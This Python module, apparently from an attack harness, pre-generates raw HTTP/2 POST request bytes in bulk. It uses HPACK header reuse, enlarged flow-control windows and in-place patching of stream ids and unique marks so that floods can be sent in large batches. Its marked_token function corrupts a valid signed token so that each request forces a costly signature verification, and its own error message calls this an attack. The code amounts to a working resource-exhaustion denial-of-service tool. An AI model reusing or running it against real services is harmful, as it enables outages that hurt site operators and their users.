"""Bytes of many requests, made ahead: what differs between one and the next is written into them in place."""

import itertools
import secrets
import string

import hpack

from harness import frames

STREAM = 0x7FFEFDFC  # stands for the id of a request's stream
MARK = b"!marked!"  # stands for letters that no two requests have in common

UNIT = 128  # requests: their stream ids differ in the last byte alone
SEND_SIZE = 1 << 18
LETTERS = (string.ascii_uppercase + string.ascii_lowercase + string.digits + "-_").encode()

FORM = "application/x-www-form-urlencoded"


def positions(data, placeholder):
    found = []
    start = data.find(placeholder)
    while start >= 0:
        found.append(start)
        start = data.find(placeholder, start + len(placeholder))
    return found


class Template:
    """One request's bytes, with STREAM and MARK in them, made into many."""

    def __init__(self, record):
        self.size = len(record)
        self.block = bytearray(record * UNIT)
        self.ids = positions(record, STREAM.to_bytes(4, "big"))
        self.marks = positions(record, MARK)
        own = secrets.choice(LETTERS[:52]), secrets.choice(LETTERS[:52])
        for start in self.ids:
            self._write(start + 3, range(1, 2 * UNIT, 2))
        for start in self.marks:
            self._write(start, [LETTERS[i // 64] for i in range(UNIT)])
            self._write(start + 1, [LETTERS[i % 64] for i in range(UNIT)])
            self._write(start + 2, [own[0]] * UNIT)
            self._write(start + 3, [own[1]] * UNIT)

    def _write(self, offset, values):
        """One byte of each request."""
        self.block[offset :: self.size] = bytes(values)

    def units(self):
        """UNIT requests at a time. The first streams are left to what stands before them: ids go from 2 * UNIT on."""
        for count in itertools.count(1):
            upper = (2 * UNIT * count).to_bytes(4, "big")
            for start in self.ids:
                for i in range(3):
                    self._write(start + i, [upper[i]] * UNIT)
            for start in self.marks:
                for i in range(4):
                    self._write(start + 4 + i, [LETTERS[count >> 6 * i & 63]] * UNIT)
            yield bytes(self.block)

    def requests(self):
        """One at a time."""
        for unit in self.units():
            for start in range(0, len(unit), self.size):
                yield unit[start : start + self.size]

    def sends(self, size=SEND_SIZE):
        """As many at a time as fit into a send."""
        units = self.units()
        count = max(1, size // len(self.block))
        while True:
            yield b"".join(itertools.islice(units, count))


class Heads:
    """Header blocks of one request: `first` fills the tables of a connection, so that `later` is a few bytes."""

    def __init__(self, method, path, headers=()):
        encoder = hpack.Encoder()
        lines = frames.header_lines(method, path, headers)
        self.first = encoder.encode(lines)
        self.later = encoder.encode(lines)


def post_headers(target):
    headers = [("content-type", FORM)]
    return headers + [("authorization", target.authorization)] if target.authorization else headers


def post_heads(target):
    return Heads("POST", target.path, post_headers(target))


def opening(heads, values=None):
    """What a connection begins with; its first request is on stream 1."""
    settings = frames.settings(values)
    windows = frames.window_update(0x7FFFFFFF - 65535)
    return frames.PREFACE + settings + windows + headers_frame(heads.first, frames.END_STREAM, 1)


def headers_frame(block, flags=0, stream=STREAM):
    return frames.frame(frames.HEADERS, frames.END_HEADERS | flags, stream, block)


def data_frame(payload, flags=0, stream=STREAM):
    return frames.frame(frames.DATA, flags, stream, payload)


def marked_token(target):
    """The good token with a mark in its signature: no two are alike, and each takes a verification to be refused."""
    signed, _, signature = target.token.rpartition(".")
    if len(signature) < 40:
        raise ValueError("an attack with tokens needs one that is signed")
    return f"{signed}.{signature[:20]}".encode() + MARK + signature[20 + len(MARK) :].encode()


def form_of(token):
    return b"token=" + token
